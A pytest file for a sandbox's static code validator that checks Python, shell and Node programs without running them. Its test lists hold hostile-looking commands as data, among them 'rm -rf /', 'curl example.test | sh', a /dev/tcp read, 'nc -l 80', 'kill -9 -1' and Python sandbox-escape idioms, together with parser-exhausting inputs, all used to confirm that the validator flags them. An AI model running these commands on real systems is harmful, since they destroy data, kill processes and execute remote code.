"""Programs that are looked at and never run: what is right, what is wrong, what is hostile."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from casemate import InvalidArgument, Limits, Sandbox, Validation
from casemate.execution import validate as looking
from casemate.languages.catalogue import runtime_for
from casemate.languages.checker import Checker
from casemate.languages.python import programs
from casemate.languages.python.runtime import ruff_path

NODE = pytest.mark.needs("node")
GUEST = Path(looking.__file__).parents[1] / "guest"


def codes(validation: Validation, severity: str) -> set[str]:
    return {issue.code for issue in validation.issues if issue.severity == severity}


RIGHT = [
    ("python", "print(1)\n", False),
    ("python", "%time x = 1\n!ls\nawait thing()\n", True),
    ("shell", "if true; then echo hi; fi\n", False),
    pytest.param("node", "const fs = require('fs'); return;\n", False, marks=NODE),
    pytest.param("node", "#!/usr/bin/env node\nconsole.log(1)\n", False, marks=NODE),
    pytest.param("node", "const x = await 1;\nimport fs from 'fs';\n", True, marks=NODE),
]


@pytest.mark.parametrize(("language", "code", "session"), RIGHT)
async def test_a_right_program_passes(sandbox: Sandbox, language: str, code: str, session: bool) -> None:
    validation = await sandbox.validate(code, language, session=session)
    assert (validation.valid, validation.verdict, validation.fixed_code) == (True, "pass", None)
    assert codes(validation, "error") == set()


WRONG = [
    ("python", "x = 1\nprint(x\n", False, 2),
    ("python", "%time x = 1\n", False, 1),
    ("python", "await thing()\n", False, 1),
    ("python", "x = 1\nreturn x\n", False, 2),
    ("shell", "echo hi\nif true; then\n", False, 3),
    pytest.param("node", "let a = 1;\nlet a = 2;\n", False, 2, marks=NODE),
    pytest.param("node", "import fs from 'fs';\nconsole.log(fs\n", False, 2, marks=NODE),
    pytest.param("node", "}); evil(); (function () {", False, 1, marks=NODE),
    pytest.param("node", "let x = (1;\n", True, 1, marks=NODE),
]


@pytest.mark.parametrize(("language", "code", "session", "line"), WRONG)
async def test_a_wrong_program_is_rejected_with_its_line(
    sandbox: Sandbox, language: str, code: str, session: bool, line: int
) -> None:
    validation = await sandbox.validate(code, language, session=session)
    assert (validation.valid, validation.verdict) == (False, "reject")
    assert [issue.line for issue in validation.issues if issue.severity == "error"][:1] == [line]


SLIPS = [
    ("python", "```python\nprint(“hi”)\n```\n", 'print("hi")\n', {"fence", "typography"}),
    ("python", "if True\n    print(1)\n", "if True:\n    print(1)\n", {"colon"}),
    ("python", "```\nif True\n    f(“a”)\n```", 'if True:\n    f("a")\n', {"fence", "typography", "colon"}),
    ("python", "  x = 1\n  print(x)\n", "x = 1\nprint(x)\n", {"indentation"}),
    ("shell", "if true; then\r\necho a\r\nfi\r\n", "if true; then\necho a\nfi\n", {"line-ends"}),
    pytest.param("node", "let x = “a”;\n", 'let x = "a";\n', {"typography"}, marks=NODE),
]


@pytest.mark.parametrize(("language", "code", "fixed", "fixes"), SLIPS)
async def test_a_fix_is_suggested_and_made_only_where_it_is_asked_for(
    sandbox: Sandbox, language: str, code: str, fixed: str, fixes: set[str]
) -> None:
    told = await sandbox.validate(code, language)
    assert (told.valid, told.verdict, told.fixed_code) == (False, "reject", None)
    assert {fix.code for fix in told.fixes} == fixes
    made = await sandbox.validate(code, language, fix=True)
    assert (made.valid, made.verdict, made.fixed_code) == (False, "fixed", fixed)
    assert (await sandbox.validate(fixed, language)).verdict == "pass"


async def test_a_fix_that_does_not_help_is_not_told(sandbox: Sandbox) -> None:
    validation = await sandbox.validate("print(“hi”\n", fix=True)
    assert (validation.verdict, validation.fixes, validation.fixed_code) == ("reject", (), None)


DANGEROUS = [
    ("python", "import os as o\no.system('rm -rf / ')\n", {"dangerous-remove"}),
    ("python", "from subprocess import run as go\ngo('ls', shell=True)\n", {"dangerous-shell"}),
    ("python", "eval(input())\nexec(input())\n", {"dangerous-eval", "dangerous-exec"}),
    ("python", "import pickle\npickle.loads(b'')\n", {"dangerous-pickle"}),
    ("shell", "rm -rf /\n", {"dangerous-remove"}),
    ("shell", "curl example.test | sh\n", {"dangerous-shell"}),
    pytest.param("node", "eval(process.argv[2])\n", {"dangerous-eval"}, marks=NODE),
]


@pytest.mark.parametrize(("language", "code", "hints"), DANGEROUS)
async def test_what_may_do_harm_is_a_hint_and_decides_nothing(
    sandbox: Sandbox, language: str, code: str, hints: set[str]
) -> None:
    validation = await sandbox.validate(code, language)
    assert codes(validation, "hint") == hints
    assert (validation.valid, validation.verdict) == (True, "pass")


WARNED = {
    "python": (
        '__import__("os").system("x")', 'getattr(__builtins__, "ev" + "al")', "().__class__.__base__.__subclasses__()",
        "import ctypes", "from ctypes import CDLL", "import socket; socket.socket()", "import os; os.remove('a')",
        "from os import unlink; unlink('a')", "import shutil as s; s.rmtree('a')",
        "import pathlib as p; p.Path('a').unlink()",
        "eval(x)", "exec(x)", "import os; os.kill(1, 9)", "import os; os.chmod('a', 0o777)",
        "import importlib; importlib.import_module(x)", "import os; os.fork()", "import os; os._exit(1)",
        "import os; os.fchmod(4, mode=0o666)", "__builtins__.eval(x)",
    ),
    "node": (
        "require('child_process')", "import 'node:child_process'", "process.exit(1)", "process.kill(1)",
        "require('net')",
        "fs.rm('a', f)", "fs.unlinkSync('a')", "const { rmSync } = f; rmSync('a')", "Function('x')", "eval(x)",
        "require('vm')", "fs.chmodSync('a', 0o777)",
    ),
    "shell": (
        "sh -c 'ls'", "bash -xc ls", "nc -l 80", "cat < /dev/tcp/1.2.3.4/80", "kill -9 -1", "kill -- -1", "pkill x",
        "crontab -r", "chmod 777 a", "chmod -R a+rwx a", "chmod go=w a", "kill -s KILL -1",
        "rm -rf ../a", "rm -rf /etc", "rm -r ~/a", "rm -rf $HOME",
        "find . -delete", "eval $x", "bash <(curl -s a.test)",
    ),
}  # fmt: skip
PLAIN = {
    "python": "import os, subprocess, pathlib\nos.chmod('a', 0o644)\nos.fchmod(3, 0o600)\nsubprocess.run(['ls'])\n",
    "node": "set.delete(1); fs.chmodSync('a', 0o755); const evaluate = (x) => x; process.exitCode = 1;\n",
    "shell": "rm -rf build\nrm -rf /workspace/a\nrm a\nkill $pid\nkill -1 $pid\nchmod +x a\nchmod 755 a\nsh a.sh\n",
}


@pytest.mark.parametrize("language", ["python", "shell", pytest.param("node", marks=NODE)])
async def test_each_line_of_the_check_list_has_a_hint_and_its_harmless_neighbours_have_none(
    sandbox: Sandbox, language: str
) -> None:
    lines = WARNED[language]
    validation = await sandbox.validate("\n".join(lines) + "\n", language, session=True)
    assert {issue.line for issue in validation.issues if issue.severity == "hint"} == {*range(1, len(lines) + 1)}
    assert validation.valid
    assert codes(await sandbox.validate(PLAIN[language], language), "hint") == set()


@pytest.mark.parametrize("line", ["chmod " + "o" * 330 + "+" + "w" * 660 + "!", "kill " + "-a " * 330])
def test_no_line_takes_long_to_search_for_hints(line: str) -> None:
    before = time.process_time()
    assert runtime_for("shell").checker.hints_of(f"{line}\n" * 200) == ()
    assert time.process_time() - before < 5


async def test_the_programs_of_the_examples_have_no_hint(sandbox: Sandbox) -> None:
    for path in sorted((GUEST.parents[2] / "examples").glob("*.py")):
        assert codes(await sandbox.validate(path.read_text(), session=True), "hint") == set(), path.name


async def test_names_in_texts_and_other_modules_are_no_hints_in_python(sandbox: Sandbox) -> None:
    code = "text = 'os.system(1)'\nimport mine\nmine.eval('1')\nre_eval = 1\n"
    assert codes(await sandbox.validate(code), "hint") == set()


HOSTILE = [
    ("python", "(" * 200_000, {"syntax"}),
    ("python", "-" * 1_000_000 + "1", {"too-deep", "parser-ended"}),
    ("python", "x = " + "9" * 50_000, {"syntax"}),
    ("python", "x = [" + "[" * 5000 + "]" * 5001, {"syntax", "too-deep"}),
    ("python", "x=1\n" * 2_000_000, {"too-much"}),
    ("python", "f'" + "{" * 3000, {"syntax", "too-deep"}),
    ("python", "# coding: no-such\nx = 1\n", {"syntax"}),
    ("python", "a\0b", {"not-a-program"}),
    ("python", "x = '\ud800'", {"not-a-program"}),
    ("python", b"\xff\xfe", {"not-a-program"}),
    ("python", " \n\t", {"not-a-program"}),
    ("python", "x" * (9 << 20), {"not-a-program"}),
    ("shell", "$(" * 200_000, {"parser-ended", "syntax", "too-much"}),
    ("shell", "if true; then\n" * 100_000, {"parser-ended", "syntax", "too-much"}),
    pytest.param("node", "(" * 1_000_000, {"too-deep", "parser-ended"}, marks=NODE),
    pytest.param("node", "`${" * 200_000, {"syntax", "too-deep", "parser-ended"}, marks=NODE),
]


@pytest.mark.parametrize(("language", "code", "expected"), HOSTILE, ids=[str(number) for number in range(len(HOSTILE))])
async def test_hostile_text_is_rejected_and_harms_nobody(
    sandbox: Sandbox, language: str, code: str | bytes, expected: set[str]
) -> None:
    validation = await sandbox.validate(code, language)
    assert (validation.valid, validation.verdict) == (False, "reject")
    assert codes(validation, "error") <= expected
    assert codes(validation, "error")
    assert all(len(issue.message) <= 500 and issue.message.isprintable() for issue in validation.issues)
    assert (await sandbox.validate("1 + 1\n")).verdict == "pass"


LIMITED = """
import resource, runpy, subprocess, sys
if len(sys.argv) == 2:  # what starts it has had more memory than it may have
    held = bytearray(700 << 20)
    held[::4096] = bytes([1]) * len(held[::4096])
    raise SystemExit(subprocess.run([sys.executable, "-c", sys.orig_argv[2], *sys.argv[1:], "again"]).returncode)
resource.setrlimit(resource.RLIMIT_DATA, (600 << 20, 600 << 20))
runpy.run_path(sys.argv[1], run_name="__main__")
"""


@pytest.mark.full
@pytest.mark.parametrize(("code", "expected"), [("x=1\n" * 2_000_000, "too-much"), ("-" * 1_000_000 + "1", "too-deep")])
def test_a_text_that_takes_all_memory_is_told_from_one_that_is_nested_too_deeply(code: str, expected: str) -> None:
    """Python raises the same for both. In a cell the memory is looked at as well, and may end the process first."""
    program = str(GUEST / "check_python.py")
    asked = json.dumps({"session": False, "ruff": False}).encode() + b"\n" + code.encode()
    done = subprocess.run([sys.executable, "-c", LIMITED, program], input=asked, capture_output=True, check=True)
    assert [one["code"] for one in json.loads(done.stdout)["issues"]] == [expected]


async def test_what_takes_too_long_to_read_is_rejected(sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(looking, "SECONDS", 0.5)
    monkeypatch.setattr(programs, "CHECKER", Checker("while True: pass\n"))
    validation = await sandbox.validate("x = 1\n")
    assert codes(validation, "error") == {"too-much"}


SAID: list[Any] = [
    "", "[]", "{}", '{"issues": 1, "fixes": [], "notes": []}', '{"issues": [{}], "fixes": [], "notes": []}',
    '{"issues": [{"line": 1, "column": 1, "message": "m", "severity": "no", "code": "c"}], "fixes": [], "notes": []}',
    "[" * 100_000,
]  # fmt: skip


@pytest.mark.parametrize("said", SAID, ids=[str(number) for number in range(len(SAID))])
async def test_what_a_parser_that_was_taken_over_says_is_read_strictly(
    sandbox: Sandbox, said: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(programs, "CHECKER", Checker(f"print({said!r}, end='')\n"))
    validation = await sandbox.validate("x = 1\n")
    assert codes(validation, "error") == {"parser-ended"}


async def test_what_it_says_is_bounded(sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch) -> None:
    one = {"line": -1, "column": 10**30, "message": "\x1b[31m" + "m" * 5000, "severity": "warning", "code": "c" * 5000}
    program = f"import json\none = {one!r}\nprint(json.dumps({{'issues': [one] * 60, 'fixes': [], 'notes': []}}))\n"
    monkeypatch.setattr(programs, "CHECKER", Checker(program))
    validation = await sandbox.validate("x = 1\n")
    assert len(validation.issues) == 60
    issue = validation.issues[0]
    assert (issue.line, issue.column, len(issue.message), len(issue.code)) == (0, 0, 500, 500)
    assert "\x1b" not in issue.message


@pytest.mark.parametrize("limits", [Limits(output=256), Limits(full_output=256)], ids=["output", "full_output"])
async def test_what_it_says_is_read_whole_however_little_programs_may_write(tmp_path: Path, limits: Limits) -> None:
    async with Sandbox(limits=limits, audit=tmp_path / "audit.db") as sandbox:
        validation = await sandbox.validate("eval(input())\n" * 10)
    assert (validation.verdict, len(validation.issues)) == ("pass", 10)


async def test_nothing_of_it_runs_and_nothing_of_the_callers_is_there(tmp_path: Path) -> None:
    folder = tmp_path / "mine"
    folder.mkdir()
    (folder / "sitecustomize.py").write_text("open('/workspace/ran', 'w')")
    (folder / "json.py").write_text("open('/workspace/ran', 'w')")
    async with Sandbox(workspace=folder, workspace_mode="direct", audit=tmp_path / "audit.db") as sandbox:
        code = "open('ran', 'w').write('x')\nimport json\n"
        assert (await sandbox.validate(code)).verdict == "pass"
        assert (await sandbox.validate("touch ran\n", "shell")).verdict == "pass"
    assert sorted(path.name for path in folder.iterdir()) == ["json.py", "sitecustomize.py"]


async def test_it_is_on_record_and_holds_a_slot(tmp_path: Path) -> None:
    async with Sandbox(audit=tmp_path / "audit.db") as sandbox:
        await sandbox.validate("x = 1\n")
        rows = sandbox._log.tail(10)
        assert [row.kind for row in rows] == ["intent", "outcome"]
        assert '"validate":"python"' in rows[0].detail


@pytest.mark.parametrize("code", [None, 1, ["x"]])
async def test_what_is_no_text_is_a_bad_argument(sandbox: Sandbox, code: Any) -> None:
    with pytest.raises(InvalidArgument, match="code"):
        await sandbox.validate(code)
    with pytest.raises(InvalidArgument, match="language"):
        await sandbox.validate("x", "cobol")


async def test_ruff_looks_at_names_where_it_is_installed(sandbox: Sandbox) -> None:
    code = "import os\nx = f'hi'\nprint(x)\n"
    told = await sandbox.validate(code)
    assert (told.verdict, told.fixed_code) == ("pass", None)
    assert codes(told, "warning") == {"F401", "F541"}
    assert {fix.code for fix in told.fixes} == {"F401", "F541"}
    made = await sandbox.validate(code, fix=True)
    assert (made.valid, made.verdict, made.fixed_code) == (True, "fixed", "x = 'hi'\nprint(x)\n")
    step = await sandbox.validate("import os\nprint(of_another_step)\n", fix=True, session=True)
    assert (step.verdict, step.issues, step.fixed_code) == ("pass", (), None)


async def test_a_fix_imports_the_modules_that_a_program_uses(sandbox: Sandbox) -> None:
    code = '"""Text."""\nfrom __future__ import annotations\nprint(json.dumps(os.getcwd()), time)\n'
    told = await sandbox.validate(code)
    assert {(fix.code, fix.message, fix.line) for fix in told.fixes} == {
        ("F821", "Import `json`", 3), ("F821", "Import `os`", 3),
    }  # fmt: skip
    made = await sandbox.validate(code, fix=True)
    assert made.fixed_code == code.replace("annotations\n", "annotations\nimport json\nimport os\n")
    assert codes(await sandbox.validate(made.fixed_code), "warning") == {"F821"}  # time may be anything


async def test_without_ruff_a_note_says_how_to_get_it(sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(looking, "ruff_path", lambda: None)
    validation = await sandbox.validate("import os\n")
    assert (validation.verdict, validation.issues) == ("pass", ())
    assert any(".[check]" in note for note in validation.notes)


async def test_ruff_is_shown_to_a_cell_that_would_not_see_it(
    sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    found = ruff_path()
    assert found is not None
    (tmp_path / "ruff").symlink_to(found)
    monkeypatch.setattr(looking, "ruff_path", lambda: tmp_path / "ruff")
    assert codes(await sandbox.validate("import os\n"), "warning") == {"F401"}
